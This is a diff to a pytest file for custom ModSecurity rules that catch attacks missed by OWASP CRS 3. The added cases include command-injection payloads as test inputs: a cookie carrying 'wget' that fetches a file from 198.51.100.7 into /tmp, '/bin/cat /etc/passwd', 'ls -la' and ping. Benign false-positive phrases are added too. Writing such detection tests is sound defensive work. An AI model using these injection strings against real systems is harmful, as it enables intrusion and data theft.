@@ -253,6 +253,11 @@ def test_close_is_idempotent_and_final() -> None:
         (9999120, get("/p", "c=admin%27%20%23")),
         (9999121, get("/p", "f=%2Fproc%2F1%2Fenviron")),
         (9999122, get("/", Cookie="d=phpinfo%28%29")),
+        (9999123, get("/p", "host=ping%20-c%2099%20example.com")),
+        (9999123, get("/p", "f=ls%20-la")),
+        (9999123, get("/p", "f=%2Fbin%2Fcat%20%2Fetc%2Fpasswd")),
+        (9999123, get("/p", "ip=ping%20198.51.100.7")),
+        (9999123, get("/", Cookie="wget http://198.51.100.7/x -O /tmp/x=1")),
     ],
 )
 def test_supplement_rules_catch_what_crs_3_misses(
@@ -288,5 +293,11 @@ def test_supplement_leaves_everyday_text_alone(modsec_engine: Any) -> None:
         "note=R%26D%20team%2C%20id%20badge%20needed",  # "id" as a word, no shell separator
         "tpl=Hello%20%7B%7Bname%7D%7D",  # a template placeholder, no expression
         "title=Tom%20%26%20Jerry%20%7C%20sh0rts",
+        # Commands that are also words, followed by words (CRS 3.3's 932150 flagged these).
+        "q=ping%20pong%20table",
+        "q=ls%20460%20parts",
+        "q=head%20%26%20shoulders",
+        "q=cat%20food%20for%20kittens",
+        "q=more%20about%20us",
     ):
         assert not modsec_engine.inspect(get("/p", query)).would_block, query
